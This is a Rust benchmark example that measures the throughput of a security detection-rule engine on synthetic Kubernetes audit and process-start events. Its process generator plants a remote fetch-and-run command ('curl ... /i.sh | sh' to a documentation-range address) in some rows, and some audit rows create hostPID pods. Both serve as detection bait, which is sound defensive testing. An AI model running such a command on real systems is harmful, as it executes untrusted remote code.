//! How many events a second one thread evaluates, by rule set and by kind of batch.
//!
//! The shape stands for a busy cluster: most rows are reads by components, one in some hundred is something that a rule
//! asks about, users, verbs and resources repeat as they do in audit logs, object names and command lines do not.
//! Decoding is not measured; the raw fields lie beside the batch, as decoders leave them. Nothing is cached between
//! batches, and the columns of command lines are all distinct, which is the dearest case.
//!
//! Run with `cargo run --release -p palisade-rules --example rule_speed -- [folder of public rules]`.

#![allow(clippy::disallowed_methods, reason = "a measurement reads the clock")]

use std::hint::black_box;
use std::path::PathBuf;
use std::sync::Arc;
use std::time::Instant;

use palisade_events::FieldPlan;
use palisade_rules::{JsonEvent, RuleSet, batch_of_json};
use serde_json::{Map, Value, json};

const ROWS: usize = 8192;

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let mut sets = vec![("starter pack", RuleSet::starter()?)];
    if let Some(folder) = std::env::args().nth(1) {
        let (public, problems) = RuleSet::load(&[PathBuf::from(folder)])?;
        println!(
            "public rules: {} loaded, {} refused",
            public.rules().len(),
            problems.iter().filter(|p| p.fatal).count()
        );
        sets.push(("starter and public rules", RuleSet::starter()?.merge(public)));
    }
    for (name, rules) in sets {
        let plan = Arc::new(FieldPlan::new(rules.raw_fields()));
        let begun = Instant::now();
        let count = rules.rules().len();
        let engine = rules.compile(&plan)?;
        println!("{name}: {count} rules, {} raw fields, compiled in {:?}", plan.paths().len(), begun.elapsed());
        for (kind, event) in [("k8s_audit", audit as fn(usize) -> JsonEvent), ("process starts", process)] {
            let batch = batch_of_json(&plan, &(0..ROWS).map(event).collect::<Vec<_>>())?;
            let matches = engine.evaluate(&batch);
            let mut rounds = 0;
            let begun = Instant::now();
            while begun.elapsed().as_secs() < 3 {
                black_box(engine.evaluate(black_box(&batch)));
                rounds += 1;
            }
            let rate = (rounds * ROWS) as f64 / begun.elapsed().as_secs_f64();
            println!("  {kind}: {rate:.0} events/s, {} matches in {ROWS} rows", matches.len());
        }
    }
    Ok(())
}

fn audit(n: usize) -> JsonEvent {
    let verbs = ["get", "list", "watch", "update", "patch", "create"];
    let resources = ["leases", "pods", "configmaps", "endpointslices", "nodes", "secrets", "deployments", "events"];
    let verb = verbs[n * 7 % verbs.len()];
    let resource = resources[n * 13 % resources.len()];
    let user = match n % 10 {
        0 => format!("user-{}", n % 40),
        1..5 => format!("system:node:node-{}", n % 50),
        _ => format!("system:serviceaccount:kube-system:controller-{}", n % 20),
    };
    let mut event = json!({
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Request", "stage": "ResponseComplete",
        "auditID": format!("{n:032x}"), "verb": verb, "user": {"username": user, "groups": ["system:authenticated"]},
        "requestURI": format!("/api/v1/namespaces/ns-{}/{resource}/object-{n}", n % 30),
        "userAgent": "kube-controller-manager/v1.34.1", "sourceIPs": ["10.0.0.7"],
        "objectRef": {"resource": resource, "namespace": format!("ns-{}", n % 30), "name": format!("object-{n}")},
        "responseStatus": {"code": if n.is_multiple_of(50) { 403 } else { 200 }},
    });
    if n.is_multiple_of(200) {
        event["requestObject"] = json!({"spec": {"hostPID": true, "containers": [{"name": "a", "image": "x"}]}});
        event["verb"] = "create".into();
        event["objectRef"]["resource"] = "pods".into();
    }
    JsonEvent { format: "k8s_audit".into(), class_uid: 6003, event, columns: Map::new() }
}

fn process(n: usize) -> JsonEvent {
    let programs =
        ["/usr/bin/node", "/usr/sbin/nginx", "/bin/sh", "/usr/bin/python3", "/usr/bin/date", "/usr/bin/curl"];
    let exe = programs[n % programs.len()];
    let command = match n % 500 {
        0 => format!("sh -c curl http://203.0.113.{}/i.sh | sh", n % 250),
        _ => format!("{exe} --config /etc/app/config-{n}.yml --port {} --log-level info --worker {n}", 1024 + n % 4000),
    };
    let columns = json!({"process_file_path": exe, "process_cmd_line": command, "process_user_name": "app"});
    let Value::Object(columns) = columns else { return JsonEvent::default() };
    JsonEvent { format: "auditd".into(), class_uid: 1007, columns, event: Value::Null }
}
